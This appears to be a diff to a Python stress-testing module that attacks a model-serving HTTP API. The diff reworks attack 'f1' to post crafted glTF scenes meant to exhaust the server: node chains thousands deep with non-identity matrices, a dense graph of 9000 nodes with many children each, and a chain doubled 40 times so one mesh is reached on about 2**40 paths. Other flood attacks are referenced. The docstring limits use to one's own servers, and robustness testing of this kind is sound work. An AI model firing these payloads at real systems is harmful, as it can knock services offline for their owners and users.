@@ -4,8 +4,6 @@ Each attack lasts some seconds, from a few clients at once, while another client
 ordinary shapes. This module needs only httpx. Use it on servers of your own only.
 """
 
-from __future__ import annotations
-
 import argparse
 import contextlib
 import itertools
@@ -14,7 +12,6 @@ import os
 import select
 import socket
 import ssl
-import struct
 import sys
 import threading
 import time
@@ -31,10 +28,12 @@ import httpx
 PROMPT = 1.0
 #: Timeouts in seconds of the calls for health and for a shape.
 HEALTH_PATIENCE, SHAPE_PATIENCE = 10.0, 70.0
-#: Most bytes that a connection of `f2` sends; clients of the other attacks; streams of `f4`.
-ENDLESS, CLIENTS, READERS = 200 * 2**20, 4, 34
+#: Most bytes that a connection of `f2` sends; streams of `f4`.
+ENDLESS, READERS = 200 * 2**20, 34
 #: Connections that one attack makes at most.
 CONNECTIONS = 20_000
+#: A node's matrix that is not the identity, so that no reader can skip it.
+MATRIX = [0.8, 0.6, 0, 0, -0.6, 0.8, 0, 0, 0, 0, 1, 0, 0, 0, 0, 1]
 
 
 @dataclass
@@ -137,9 +136,20 @@ def f1(url: str, seconds: float, key: str | None = None, **of_target: Any) -> At
     target = AttackTarget(url, seconds, key, **of_target)
     name, _ = target.model()
     with target.client() as client:
-        glb = client.get(f"/v1/models/{name}/mesh", params={"format": "glb"}).raise_for_status().content
-    bodies = [chain(glb, 3000), chain(glb, 9990), dense(glb, 7 * 2**20), doubled(glb, 40)]
-    return _posting(target, f"/v1/models/{name}/encode?format=glb", bodies)
+        mesh = client.get(f"/v1/models/{name}/mesh", params={"format": "gltf"}).raise_for_status().json()
+    chains = [[{"matrix": MATRIX, "children": [k + 1]} for k in range(length)] for length in (3000, 9990)]
+    dense = [{"children": [*range(k + 1, min(k + 160, 9001))]} for k in range(9000)]
+    doubled = [{"children": [k + 1, k + 1]} for k in range(40)]
+    scenes = [
+        mesh | {"scene": 0, "scenes": [{"nodes": [0]}], "nodes": [*n, {"mesh": 0}]} for n in (*chains, dense, doubled)
+    ]
+    bodies = [json.dumps(scene, separators=(",", ":")).encode() for scene in scenes]
+
+    def post(outcome: AttackOutcome, first: int) -> None:
+        path = f"/v1/models/{name}/encode?format=gltf"
+        _post(target, outcome, path, itertools.cycle(bodies[first:] + bodies[:first]))
+
+    return _meanwhile(target, [partial(post, first=k) for k in range(len(bodies))])
 
 
 def f2(url: str, seconds: float, key: str | None = None, **of_target: Any) -> AttackOutcome:
@@ -228,51 +238,6 @@ def f4(url: str, seconds: float, key: str | None = None, **of_target: Any) -> At
 
 
 ATTACKS: dict[str, Callable[..., AttackOutcome]] = {"f1": f1, "f2": f2, "f3": f3, "f4": f4}
-
-
-def chain(glb: bytes, length: int) -> bytes:
-    """A GLB whose meshes are at the end of a chain of nodes, each with a matrix."""
-    identity = [1.0 if k % 5 == 0 else 0.0 for k in range(16)]
-    tree, rest = _taken_apart(glb)
-    tree["nodes"] = [{"matrix": identity, "children": [k + 1]} for k in range(length)] + [{"mesh": 0}]
-    return _put_together(tree, rest)
-
-
-def dense(glb: bytes, size: int) -> bytes:
-    """A GLB of about this many bytes with few nodes, each with many of the later ones as children."""
-    tree, rest = _taken_apart(glb)
-    count = 9000
-    each = size // count // 5
-    tree["nodes"] = [{"children": [*range(k + 1, min(k + 1 + each, count + 1))]} for k in range(count)] + [{"mesh": 0}]
-    return _put_together(tree, rest)
-
-
-def doubled(glb: bytes, depth: int) -> bytes:
-    """A GLB whose mesh is reached on 2**depth paths, as each node has the next one as child twice."""
-    tree, rest = _taken_apart(glb)
-    tree["nodes"] = [{"children": [k + 1, k + 1]} for k in range(depth)] + [{"mesh": 0}]
-    return _put_together(tree, rest)
-
-
-def _taken_apart(glb: bytes) -> tuple[dict[str, Any], bytes]:
-    size = struct.unpack_from("<I", glb, 12)[0]
-    tree: dict[str, Any] = json.loads(glb[20 : 20 + size])
-    tree["scenes"], tree["scene"] = [{"nodes": [0]}], 0
-    return tree, glb[20 + size :]
-
-
-def _put_together(tree: dict[str, Any], rest: bytes) -> bytes:
-    text = json.dumps(tree, separators=(",", ":")).encode()
-    text += b" " * (-len(text) % 4)
-    chunk = struct.pack("<I4s", len(text), b"JSON") + text + rest
-    return struct.pack("<4sII", b"glTF", 2, 12 + len(chunk)) + chunk
-
-
-def _posting(target: AttackTarget, path: str, bodies: list[bytes]) -> AttackOutcome:
-    def post(outcome: AttackOutcome, first: int) -> None:
-        _post(target, outcome, path, itertools.cycle(bodies[first:] + bodies[:first]))
-
-    return _meanwhile(target, [partial(post, first=k % len(bodies)) for k in range(CLIENTS)])
 
 
 def _post(target: AttackTarget, outcome: AttackOutcome, path: str, bodies: Iterator[bytes]) -> None:
